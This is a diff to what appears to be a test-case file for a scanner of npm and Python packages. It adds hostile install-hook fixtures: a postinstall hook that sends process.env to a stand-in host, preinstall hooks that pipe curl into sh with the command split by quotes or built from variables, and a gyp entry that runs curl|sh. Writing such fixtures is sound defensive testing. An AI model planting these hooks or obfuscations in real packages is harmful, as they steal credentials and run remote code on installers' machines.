@@ -232,6 +232,36 @@ export default {
         '{"targets": [{"target_name": "x", "sources": ["<!(curl -s https://host.invalid/x | sh)"]}]}',
       'x.cc': 'int x;',
     }),
+    {
+      id: 'start-hook-inline-code',
+      title: 'the code in a manifest is judged like any source',
+      build: () => ({
+        'color-kit-1.0.0.tgz': npmPackage(
+          {},
+          {
+            scripts: {
+              postinstall:
+                "node -e \"fetch('https://host.invalid',{method:'POST',body:JSON.stringify(process.env)})\"",
+            },
+          },
+        ),
+      }),
+      expect: ['import-behaviour/credentials-sent', 'install-hooks/fetching-hook'],
+    },
+    hook(
+      'split',
+      'a command in pieces',
+      'hostile-hook',
+      'preinstall',
+      'c""url -s https://host.invalid/x | ba\\sh',
+    ),
+    hook(
+      'variable',
+      'a command out of variables',
+      'hostile-hook',
+      'preinstall',
+      'A=cu; B=rl; $A$B -s https://host.invalid/x | sh',
+    ),
     inNpm(
       'npmrc',
       'another registry for whoever installs in the folder',
@@ -291,6 +321,14 @@ export default {
     },
   ],
   honest: [
+    {
+      id: 'start-settings',
+      title: 'settings of a project',
+      build: () => ({
+        '.npmrc': 'engine-strict=true\nregistry=https://registry.example/\n',
+        '.yarnrc.yml': 'nodeLinker: node-modules\n',
+      }),
+    },
     honestWheel('pth-folders', 'a path file with folders', {
       'colorkit.pth': '../src\n/opt/lib\n',
     }),
